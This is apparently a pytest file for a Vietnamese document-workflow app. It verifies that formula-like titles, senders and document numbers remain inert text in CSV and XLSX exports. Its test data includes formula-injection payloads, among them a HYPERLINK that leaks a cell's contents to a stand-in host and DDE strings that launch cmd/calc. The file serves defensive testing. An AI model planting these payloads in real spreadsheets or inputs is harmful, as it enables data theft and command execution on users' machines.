"""Formula injection: a title or sender that starts like a formula stays inert text in every CSV and XLSX
export (metrics tables, registers through the pages and the API); numbers stay numbers."""
import csv
import io

import pytest
from openpyxl import load_workbook

from tests.builders import vn_time
from tests.support.api import delivery_for, issued_file
from tests.support.pages import act, delivered_file_id, issued_through_pages, login
from workflow import exports
from workflow.metrics.operations import seed_default_targets

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|x', '@SUM(1+9)*cmd',
           '\t=1+1', '\r=1+1']
MARCH = {'from': '2024-03-01', 'to': '2024-03-31'}


def _csv_rows(response):
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip('\ufeff'))))


def _inert_in_csv(cell, original):
    return cell == "'" + original


def test_the_export_module_never_writes_a_formula():
    rows = [[title, 7, -3, 0.5, None] for title in HOSTILE] + [['Bình thường', 1, 2, 0.25, None]]
    text = exports.csv_document(['Tên', 'Số', 'Âm', 'Tỷ lệ', 'Trống'], rows)
    read = list(csv.reader(io.StringIO(text.lstrip('\ufeff'))))
    assert [row[0] for row in read[1:-1]] == ["'" + title for title in HOSTILE]
    assert read[-1] == ['Bình thường', '1', '2', '0.25', '']
    assert read[1][1:] == ['7', '-3', '0.5', '']  # negative numbers are numbers, not text with a quote
    sheet = load_workbook(io.BytesIO(exports.xlsx_document(['Tên', 'Số', 'Âm', 'Tỷ lệ', 'Trống'], rows,
                                                           title='=1+1'))).active
    assert sheet['A1'].data_type == 's' and sheet['A1'].value == '=1+1'
    for index, title in enumerate(HOSTILE, start=3):
        assert sheet.cell(row=index, column=1).data_type == 's'
        assert sheet.cell(row=index, column=1).value == title
        assert sheet.cell(row=index, column=2).data_type == 'n' and sheet.cell(row=index, column=3).value == -3
    assert not any(cell.data_type == 'f' for row in sheet.iter_rows() for cell in row)


def _hostile_district(cd):
    seed_default_targets()
    at = vn_time(2024, 3, 12, 10, 0)
    for title in HOSTILE:
        cd.closed_file(cd.vp, at, title=title)


@pytest.fixture
def d(district):
    return district(_hostile_district)


def test_metrics_files_export_keeps_hostile_titles_inert(client, d):
    login(client, d.admin)
    rows = _csv_rows(client.get('/metrics/export/files.csv', query_string=MARCH))
    titles = {row[2] for row in rows[1:]}
    assert titles == {"'" + title for title in HOSTILE}
    assert all(row[0].isdigit() for row in rows[1:])  # the file ids stay numbers
    response = client.get('/metrics/export/files.xlsx', query_string=MARCH)
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [row[2] for row in sheet.iter_rows(min_row=3)]
    assert {c.value for c in cells} == set(HOSTILE)
    assert {c.data_type for c in cells} == {'s'}
    assert {row[0].data_type for row in sheet.iter_rows(min_row=3)} == {'n'}
    assert not any(cell.data_type == 'f' for row in sheet.iter_rows() for cell in row)


@pytest.fixture
def org(communes_org):
    return communes_org


def test_register_csv_pages_keep_hostile_titles_and_senders_inert(app, org, as_user):
    hostile = HOSTILE[0]
    source = issued_through_pages(app, org, as_user, title=hostile)
    rows = _csv_rows(as_user(org.clerk).get('/registers/outgoing/csv'))
    assert any(_inert_in_csv(cell, 'Quyết định: ' + hostile) or _inert_in_csv(cell, hostile)
               or cell.endswith(hostile) for cell in rows[1])
    assert not any(cell.startswith(exports.FORMULA_STARTS) for row in rows for cell in row)
    commune_clerk = as_user(org.commune_clerk)
    act(commune_clerk, delivered_file_id(app, source, org.commune), 'register')
    rows = _csv_rows(commune_clerk.get('/registers/incoming/csv'))
    assert any(hostile in cell for cell in rows[1])
    assert not any(cell.startswith(exports.FORMULA_STARTS) for row in rows for cell in row)


def test_register_csv_through_the_api_keeps_hostile_titles_inert(api, api_org):
    commune = api_org.communes[0]
    issued = issued_file(api, api_org, [commune], title='@SUM(1+9)*cmd|\' /C calc\'!A0')
    api.act(commune.clerk, delivery_for(issued, commune.unit)['file_id'], 'register')
    for user, kind in ((api_org.ubnd_clerk, 'outgoing'), (commune.clerk, 'incoming')):
        response = api.get(user, f'/registers/{kind}?format=csv')
        rows = _csv_rows(response)
        assert len(rows) == 2 and any('@SUM(1+9)' in cell for cell in rows[1])
        assert not any(cell.startswith(exports.FORMULA_STARTS) for row in rows for cell in row)


def test_a_hostile_sender_and_number_open_their_register_cells_inertly(api, api_org, as_user):
    """A paper arrival whose sender and number start like formulas: both are cells of their own in the
    incoming register (author, number), through the API's CSV and the page's."""
    commune = api_org.communes[0]
    sender, number = '=cmd|\' /C calc\'!A0', '@SUM(A1:A9)'
    response = api.upload(commune.clerk, '/files/paper-arrivals', title='-1+1 Đơn kiến nghị', doc_type='CV',
                          number=number, sender_name=sender)
    assert response.status_code == 201, response.get_json()
    for csv_response in (api.get(commune.clerk, '/registers/incoming?format=csv'),
                         as_user(commune.clerk).get('/registers/incoming/csv')):
        header, row = _csv_rows(csv_response)
        cells = dict(zip(header, row, strict=True))
        assert cells['Tác giả'] == "'" + sender
        assert cells['Số, ký hiệu văn bản'] == "'" + number
        assert not any(cell.startswith(exports.FORMULA_STARTS) for cell in row)
